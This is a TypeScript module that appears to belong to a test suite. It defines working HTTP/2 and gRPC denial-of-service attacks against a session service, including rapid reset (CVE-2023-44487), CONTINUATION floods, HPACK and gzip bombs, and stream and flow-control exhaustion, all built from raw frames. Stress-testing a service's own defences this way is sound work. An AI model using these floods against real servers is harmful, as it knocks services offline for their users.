import { envelope, frame, headerBlock } from "../../support/fixtures/http2-bytes.ts";
import {
  type Attack,
  type Prey,
  attackers,
  closedWindow,
  flood,
  grpcCall,
  grpcHeaders,
  opening,
  settingsFrame,
} from "./attacker.ts";
import { bomb } from "./http1-attacks.ts";

/** Writes `times` pieces on each connection. */
function flooding(
  name: string,
  size: number,
  times: number,
  piece: (i: number, prey: Prey) => Buffer,
  reads = true,
): Attack {
  return {
    name,
    size,
    async run(prey, count) {
      const held = await attackers(prey, count, reads);
      for (const { socket } of held) socket.write(opening());
      await Promise.all(held.map((attacker) => flood(attacker, times, (i) => piece(i, prey))));
      return held;
    },
  };
}

/** Makes calls on connections whose window is closed. */
function unread(name: string, size: number, calls: number, path: string): Attack {
  return {
    name,
    size,
    patience: "unread",
    async run(prey, count) {
      const held = await attackers(prey, count);
      for (const { socket } of held) {
        socket.write(opening(closedWindow));
        for (let i = 0; i < calls; i++) socket.write(grpcCall(prey, 2 * i + 1, path));
      }
      return held;
    },
  };
}

const get = headerBlock({ ":method": "GET", ":path": "/livez", ":scheme": "http", ":authority": "h" });

/** Puts a header of 4,000 bytes into the table and refers to it 8,000 times: 32 MB of headers. */
function hpackBomb(stream: number): Buffer {
  const value = Buffer.alloc(4000, "x");
  const literal = Buffer.concat([Buffer.from([0x40, 1, 0x61, 0x7f]), varint(4000 - 127), value]);
  const block = Buffer.concat([get, literal, Buffer.alloc(8000, 0xbe)]);
  return frame(1, 5, stream, block);
}

function varint(value: number): Buffer {
  return Buffer.from([(value & 0x7f) | 0x80, value >> 7]);
}

export const http2Attacks: readonly Attack[] = [
  flooding("rapid reset (CVE-2023-44487)", 20, 40_000, (i) =>
    Buffer.concat([frame(1, 5, 2 * i + 1, get), frame(3, 0, 2 * i + 1, "\0\0\0\x08")]),
  ),
  flooding("endless CONTINUATION", 20, 20_000, (i) =>
    i === 0 ? frame(1, 1, 1, get) : frame(9, 0, 1, headerBlock({ x: "x".repeat(100) })),
  ),
  flooding("HPACK bombs", 20, 200, (i) => hpackBomb(2 * i + 1)),
  flooding(
    "endless SETTINGS, acknowledgements unread",
    20,
    100_000,
    () => settingsFrame([[4, 65_535]]),
    false,
  ),
  flooding("endless PING, answers unread", 20, 100_000, () => frame(6, 0, 0, "pingpong"), false),
  flooding("WINDOW_UPDATE by 0", 20, 1000, () => frame(8, 0, 0, "\0\0\0\0")),
  flooding("endless PRIORITY", 20, 50_000, (i) => frame(2, 0, (2 * i + 1) % 2 ** 30, "\0\0\0\0\x10")),
  flooding("endless empty DATA", 20, 50_000, (i, prey) =>
    i === 0 ? frame(1, 4, 1, grpcHeaders(prey, "/session.v1.SessionService/Create")) : frame(0, 0, 1),
  ),
  flooding("gzip bombs in gRPC", 10, 20, (i, prey) => {
    const body = envelope(bomb, 1);
    const [stream, step] = [2 * i + 1, 16_000];
    const headers = grpcHeaders(prey, "/session.v1.SessionService/Create", { "grpc-encoding": "gzip" });
    const pieces = [frame(1, 4, stream, headers)];
    for (let at = 0; at < body.length; at += step) {
      pieces.push(frame(0, at + step >= body.length ? 1 : 0, stream, body.subarray(at, at + step)));
    }
    return Buffer.concat(pieces);
  }),
  {
    name: "25,000 streams with half a call",
    size: 100,
    patience: "request",
    async run(prey, size) {
      const held = await attackers(prey, size);
      const call = grpcHeaders(prey, "/session.v1.SessionService/Create");
      for (const { socket } of held) {
        socket.write(opening());
        for (let i = 0; i < 250; i++) socket.write(frame(1, 4, 2 * i + 1, call));
      }
      return held;
    },
  },
  unread("lists with a closed window", 20, 250, "/session.v1.SessionService/List"),
  unread("unread streams of revocations", 20, 100, "/session.v1.SessionService/WatchRevocations"),
  unread("unread streams of health", 20, 100, "/grpc.health.v1.Health/Watch"),
];
